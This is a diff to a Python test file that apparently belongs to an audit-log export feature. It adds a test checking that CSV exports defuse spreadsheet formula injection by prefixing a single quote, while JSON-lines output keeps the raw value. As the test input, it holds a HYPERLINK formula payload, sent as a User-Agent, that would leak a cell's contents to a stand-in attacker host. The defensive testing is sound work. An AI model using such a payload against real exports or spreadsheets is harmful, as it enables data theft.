@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -86,3 +88,18 @@ def test_it_exports_csv_with_a_header_row(world, events) -> None:
     assert lines[0].startswith("@timestamp,event.sequence,event.action")
     assert len(lines) == 2 and "conversation.delete" in lines[1] and "A secret plan" in lines[1]
     assert response["Content-Disposition"].startswith('attachment; filename="audit-tenant-a-')
+
+
+def test_it_neutralises_formulas_in_csv_cells_but_not_in_json_lines(world) -> None:
+    agent = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
+    response = Client(HTTP_USER_AGENT=agent).post(reverse("login"), {"username": "alice", "password": "wrong"})
+    assert response.status_code == 200  # the form again: a failed login, audited in alice's tenant
+    client = logged_in(world.dora)
+    export = b"".join(client.get(reverse("audit:event_export", args=["csv"]), {"action": "auth.login_failed"}))
+    rows = list(csv.DictReader(io.StringIO(export.decode())))
+    assert len(rows) == 1 and rows[0]["event.action"] == "auth.login_failed"
+    # A spreadsheet shows the cell as text instead of running it (OWASP: a leading single quote).
+    assert rows[0]["user_agent.original"] == "'" + agent
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    lines = b"".join(client.get(reverse("audit:event_export", args=["jsonl"]), {"action": "auth.login_failed"}))
+    assert json.loads(lines.decode().splitlines()[0])["user_agent"]["original"] == agent
